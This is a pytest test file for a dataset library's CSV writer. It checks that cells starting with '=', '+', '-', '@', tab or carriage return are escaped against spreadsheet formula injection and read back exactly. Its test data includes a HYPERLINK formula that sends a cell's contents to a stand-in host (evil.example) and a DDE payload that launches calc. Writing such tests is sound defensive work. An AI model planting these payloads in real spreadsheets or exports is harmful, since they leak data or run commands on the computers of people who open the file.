"""CSV cells a spreadsheet would evaluate (issue 17, item 8).

A label, a model name or any text starting with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return, which some spreadsheets skip before looking) is a formula to Excel,
LibreOffice and Google Sheets: ``=HYPERLINK(...)`` in a label ran when someone opened
the dataset's CSV. Such cells are written with a leading ``'`` (the usual escape: the
spreadsheet shows the text as it is), and so is a cell that really starts with ``'``;
the library's own reader takes the one ``'`` off, so every value reads back exactly.
"""

from __future__ import annotations

import csv
import hashlib
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest

from modzy_retrain import (
    AnyVotes,
    DatasetWriter,
    JobHistoryQuery,
    LineageResolver,
    ModzyClient,
    ResultFetcher,
    Sample,
    VoteFilter,
    load_manifest,
    read_samples,
)
from modzy_retrain._dataset.rows import COLUMNS, from_csv
from modzy_retrain.sandbox import Sandbox

EPOCH = datetime(2024, 1, 1, tzinfo=timezone.utc)
DANGEROUS = "=+-@\t\r"
# Values each column kind may hold, the awkward ones first.
HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'quoted",
    "''twice",
    "'",
    "=",
    "plain",
    "a=b",
]


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Sandbox:
    sb = Sandbox(seed=7, jobs=30, data_url=str(tmp_path_factory.mktemp("inputs")))
    sb.write_inputs()
    return sb


def _hostile(row: dict[str, Any], n: int) -> dict[str, Any]:
    """The row with hostile values in every column kind (texts, lists, numbers)."""
    text = HOSTILE_TEXT[n % len(HOSTILE_TEXT)]
    other = HOSTILE_TEXT[(n + 3) % len(HOSTILE_TEXT)]
    return {
        **row,
        "model_name": text,
        "label": text,
        "rule": other,
        "candidates": [text, other],
        "annotations": [{"annotator": other, "label": text, "source": "label-file", "at": None}],
        "predicted_label": other,
        "predicted_score": -0.25,
        "predictions": [{"label": text, "score": 0.5}],
        "votes_down": 2,
        "split": text,
        "team": other,  # a custom column: read back as text
    }


class Hostile(DatasetWriter):
    def serialize(self, sample: Sample) -> dict[str, Any]:
        row = super().serialize(sample)
        # The same sample gets the same values (the test serializes it again).
        n = int(hashlib.sha256(f"{row['job_id']}/{row['input_name']}".encode()).hexdigest(), 16)
        return _hostile(row, n)


def _write(sb: Sandbox, url: str) -> list[dict[str, Any]]:
    writer = Hostile(url, format="csv", mode="reference")
    with ModzyClient(api_key=sb.api_key, base_url=sb.base_url, transport=sb.transport()) as c:
        chain = (
            JobHistoryQuery(c, start=EPOCH)
            | ResultFetcher(c)
            | VoteFilter(AnyVotes())
            | LineageResolver(templates=sb.input_templates)
        )
        samples = list(chain | writer)
    assert samples
    return [writer.serialize(s) for s in samples]


def test_no_cell_of_a_csv_table_starts_a_formula(sandbox: Sandbox, tmp_path: Path) -> None:
    url = str(tmp_path / "ds")
    _write(sandbox, url)
    (table,) = load_manifest(url).samples_files
    with open(Path(url) / table, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert len(cells) > 100
    # Numbers are written as numbers (a negative score is no formula); texts escaped.
    assert not [c for c in cells if c[:1] in tuple(DANGEROUS) and not _number(c)]
    assert "-0.25" in cells
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert "''quoted" in cells  # a real leading ' is escaped too


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_column_kind_reads_back_exactly(sandbox: Sandbox, tmp_path: Path) -> None:
    url = str(tmp_path / "ds")
    wrote = _write(sandbox, url)
    got = list(read_samples(url, as_dicts=True))
    key = lambda row: (row["job_id"], row["input_name"])  # noqa: E731
    by_key = {key(row): row for row in got}
    assert len(by_key) == len(got)
    labels = set()
    for row in wrote:
        back = by_key[key(row)]
        assert back == {k: (v if v != "" else None) for k, v in row.items()}, key(row)
        labels.add(back["label"])
    assert {"'quoted", "-1", "\t=1+1", "\r=1+1", "'"} <= labels
    typed = list(read_samples(url))
    assert {s.label for s in typed} == labels


@pytest.mark.parametrize("text", [*HOSTILE_TEXT, "", "0", "-", "+1"])
def test_a_cell_round_trips_in_every_text_column(text: str) -> None:
    from modzy_retrain._dataset.rows import csv_cell

    for name, column in COLUMNS.items():
        if column.kind != "text":
            continue
        cell = csv_cell(text)
        assert cell[:1] not in tuple(DANGEROUS)
        expected = None if text == "" and column.nullable else text
        assert from_csv(name, cell) == expected, name
    assert from_csv("custom", csv_cell(text)) == (text or None)
